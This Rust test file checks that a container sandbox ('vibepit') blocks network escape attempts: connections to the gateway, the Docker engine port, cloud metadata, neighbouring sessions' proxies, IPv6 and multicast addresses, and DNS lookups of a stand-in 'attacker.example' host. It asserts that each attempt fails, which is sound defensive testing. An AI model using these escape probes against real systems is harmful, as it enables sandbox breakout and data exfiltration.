//! What a program in the sandbox tries in order to get out, and what comes of each attempt.

use std::net::{SocketAddr, TcpListener, UdpSocket};

use serde_json::{Value, json};

use crate::docker::{NO_NAMES, bridge, own_addresses, reachable};
pub(crate) use crate::support::probe::all;
use crate::support::probe::attempt;
use crate::support::{Bench, Resolver, Says, Shell, engine, require};

/// Runs the probe in a sandbox.
pub(crate) fn probe(
    bench: &Bench,
    shell: &mut Shell,
    attempts: &[(&str, &str, Value)],
) -> Vec<(String, String)> {
    attempt(bench.project(), shell, attempts)
}

pub(crate) fn pointer<'a>(value: &'a Value, path: &str) -> &'a str {
    value
        .pointer(path)
        .and_then(Value::as_str)
        .unwrap_or_else(|| panic!("{path}: {value}"))
}

/// A container's address on the engine's own network.
fn address(container: &Value) -> String {
    pointer(container, "/NetworkSettings/Networks/bridge/IPAddress").to_owned()
}

/// The session's containers of this role.
fn container(session: &str, role: &str) -> Value {
    engine::inspect(&format!("vibepit-{session}-{role}"))
}

/// Nobody knocked at a listener of the test.
#[track_caller]
fn untouched(listener: &TcpListener, packets: &UdpSocket) {
    listener.set_nonblocking(true).expect("a mode");
    packets.set_nonblocking(true).expect("a mode");
    assert!(listener.accept().is_err(), "somebody connected");
    assert!(packets.recv(&mut [0; 16]).is_err(), "a packet came");
}

/// CTL-010, CTL-012, CTL-013, CTL-002, CTL-003, PIV-010, PIV-014, PIV-015, DNS-027, DNS-030,
/// IP6-034, BOX-007.
#[test]
fn the_sandbox_reaches_its_proxys_doors_and_no_other_address() {
    if !require("docker") {
        return;
    }
    let bench = Bench::new(NO_NAMES);
    let mut shell = bench.shell(&[]);
    let own = bench.session();
    // Another session of the same person, whose proxy and sandbox are neighbours of nobody.
    let mut other = bench.shell(&["--name", "other"]);
    let other_id = id_of(&bench, "other");
    // The engine does not always tell its gateway; it is this machine's address on the bridge.
    let gateway = bridge().to_string();

    // BOX-007: the sandbox has a network of its own.
    let network = format!("container:{}", pointer(&container(&own, "holder"), "/Id"));
    let sandbox = container(&own, "sandbox");
    assert_eq!(pointer(&sandbox, "/HostConfig/NetworkMode"), network);
    let interfaces = shell.ask("tail -n +3 /proc/net/dev | cut -d : -f 1 | tr -d ' '");
    assert_eq!(interfaces, "lo\n");

    let listener = TcpListener::bind("0.0.0.0:0").expect("a port");
    let port = listener.local_addr().expect("its address").port();
    let packets = UdpSocket::bind(("0.0.0.0", port)).expect("the same port");
    let proxys = address(&container(&own, "proxy"));
    let others = address(&container(&other_id, "proxy"));
    let mut attempts = vec![
        ("the gateway", "tcp", json!([gateway, port])),
        ("the gateway, by UDP", "udp", json!([gateway, port])),
        ("CTL-010: the engine", "tcp", json!([gateway, 2375])),
        ("the proxy's control port", "tcp", json!([proxys, 3129])),
        ("the proxy outside", "tcp", json!([proxys, 3128])),
        (
            "CTL-013: another session's proxy",
            "tcp",
            json!([others, 3128]),
        ),
        (
            "another session's control port",
            "tcp",
            json!([others, 3129]),
        ),
        ("PIV-014: outside", "tcp", json!(["198.51.100.7", 443])),
        (
            "PIV-015: outside, by UDP",
            "udp",
            json!(["198.51.100.7", 123]),
        ),
        ("DNS-027: DNS outside", "tcp", json!(["198.51.100.7", 853])),
        ("DNS-027: by UDP", "udp", json!(["198.51.100.7", 53])),
        ("DNS-030: mDNS", "udp", json!(["224.0.0.251", 5353])),
        ("cloud metadata", "tcp", json!(["169.254.169.254", 80])),
    ];
    let here = own_addresses();
    let here = here
        .iter()
        .filter(|(_, ip)| ip.is_ipv4() && !ip.is_loopback());
    for (_, ip) in here.clone() {
        attempts.push(("this machine", "tcp", json!([ip, port])));
        attempts.push(("this machine, by UDP", "udp", json!([ip, port])));
        attempts.push(("CTL-010: the engine", "tcp", json!([ip, 2375])));
    }
    all(&probe(&bench, &mut shell, &attempts), &["ENETUNREACH"]);

    // What is sent without asking the routing table stays on the loopback.
    let mut attempts = vec![("everybody", "around", json!(["255.255.255.255", port]))];
    for (_, ip) in here {
        attempts.push(("this machine, on the link", "around", json!([ip, port])));
    }
    for (name, outcome) in probe(&bench, &mut shell, &attempts) {
        assert!(
            ["6", "ENETUNREACH"].contains(&outcome.as_str()),
            "{name}: {outcome}"
        );
    }
    assert_eq!(shell.ask("tail -n +2 /proc/net/arp"), "");
    assert_eq!(shell.ask("tail -n +2 /proc/net/route"), "");
    untouched(&listener, &packets);

    // CTL-002, CTL-003: of the proxy's ports its doors answer, and the control port is not among them.
    let door = &bench.sessions()[0]["proxy"]["http"];
    let door: SocketAddr = serde_json::from_value(door.clone()).expect("the HTTP door");
    let doors = [
        ("http", "tcp", json!([door.ip(), door.port()])),
        ("dns", "tcp", json!([door.ip(), 53])),
        ("socks5", "tcp", json!([door.ip(), 1080])),
        ("plain", "tcp", json!([door.ip(), 80])),
        ("tls", "tcp", json!([door.ip(), 443])),
    ];
    all(&probe(&bench, &mut shell, &doors), &["connected"]);
    let mut attempts = Vec::new();
    for port in [3129, 9997, 9999, 22, 2375, port] {
        attempts.push(("a port of the proxy", "tcp", json!([door.ip(), port])));
        attempts.push(("a port of the loopback", "tcp", json!(["127.0.0.1", port])));
    }
    // CTL-012: a neighbour would be on this loopback.
    attempts.push((
        "a door of the proxy elsewhere",
        "tcp",
        json!(["127.0.0.1", 3128]),
    ));
    all(&probe(&bench, &mut shell, &attempts), &["ECONNREFUSED"]);

    let v6 = [
        ("IP6-034", "tcp", json!(["2001:db8::1", 443])),
        ("all nodes", "udp", json!(["ff02::1", 5353])),
        ("the loopback", "tcp", json!(["::1", 53])),
    ];
    let unreachable = [
        "ENETUNREACH",
        "EADDRNOTAVAIL",
        "EAFNOSUPPORT",
        "EHOSTUNREACH",
    ];
    all(&probe(&bench, &mut shell, &v6), &unreachable);
    assert_eq!(shell.ask("cat /proc/net/if_inet6 2>/dev/null; true"), "");

    // PIV-010: to go round the proxy is to go nowhere.
    let direct = shell.ask("curl -sS --noproxy '*' -m 20 http://198.51.100.7/; echo $?");
    assert!(direct.ends_with("\n7\n"), "{direct}");
    let foreign = shell.ask("curl -sS -x http://198.51.100.7:8080 -m 20 http://a.test/; echo $?");
    assert!(foreign.ends_with("\n7\n"), "PIV-011: {foreign}");

    assert_eq!(other.ask("echo still here"), "still here\n");
    assert_eq!((shell.end().0, other.end().0), (Some(0), Some(0)));
    bench.is_clean();
}

/// DNS-028, and DNS-029 with the engine's own name server.
#[test]
fn no_name_that_is_not_allowed_leaves_by_any_name_server() {
    if !require("docker") {
        return;
    }
    let (resolver, config) = reachable("origin.test");
    resolver.set(
        "secret.attacker.example",
        Says::addresses([[198, 51, 100, 7]]),
    );
    let bench = Bench::new(&config);
    let mut shell = bench.shell(&["--allow", "origin.test"]);
    let other = bench.shell(&["--name", "other"]);
    let servers = shell.ask("cat /etc/resolv.conf");
    let proxy = servers
        .trim()
        .strip_prefix("nameserver ")
        .expect("one name server");
    let engines = probe(
        &bench,
        &mut shell,
        &[
            (
                "DNS-028: the engine's name server",
                "ask",
                json!(["127.0.0.11", 53, "secret.attacker.example", "udp"]),
            ),
            (
                "DNS-028: the same over TCP",
                "ask",
                json!(["127.0.0.11", 53, "secret.attacker.example", "tcp"]),
            ),
        ],
    );
    all(&engines, &["ECONNREFUSED"]);
    let ours = probe(
        &bench,
        &mut shell,
        &[
            (
                "udp",
                "ask",
                json!([proxy, 53, "secret.attacker.example", "udp"]),
            ),
            (
                "tcp",
                "ask",
                json!([proxy, 53, "secret.attacker.example", "tcp"]),
            ),
        ],
    );
    all(&ours, &["rcode 3 answers 0"]);
    let other_name = format!("vibepit-{}-proxy", id_of(&bench, "other"));
    let names = probe(
        &bench,
        &mut shell,
        &[
            ("DNS-029", "named", json!(["secret.attacker.example", 443])),
            ("CTL-013: by its name", "named", json!([other_name, 3128])),
            (
                "host.docker.internal",
                "named",
                json!(["host.docker.internal", 80]),
            ),
            ("PIV-012", "named", json!(["ping.attacker.example", 7])),
        ],
    );
    all(&names, &["gaierror"]);
    assert_eq!(asked(&resolver), [""; 0]);
    assert_eq!((shell.end().0, other.end().0), (Some(0), Some(0)));
}

fn asked(resolver: &Resolver) -> Vec<String> {
    let questions = resolver
        .questions()
        .into_iter()
        .map(|question| question.name);
    questions.collect()
}

/// The id of a session by its name.
fn id_of(bench: &Bench, name: &str) -> String {
    let sessions = bench.sessions();
    let found = sessions.iter().find(|one| one["name"] == name);
    pointer(found.expect("the session"), "/id").to_owned()
}
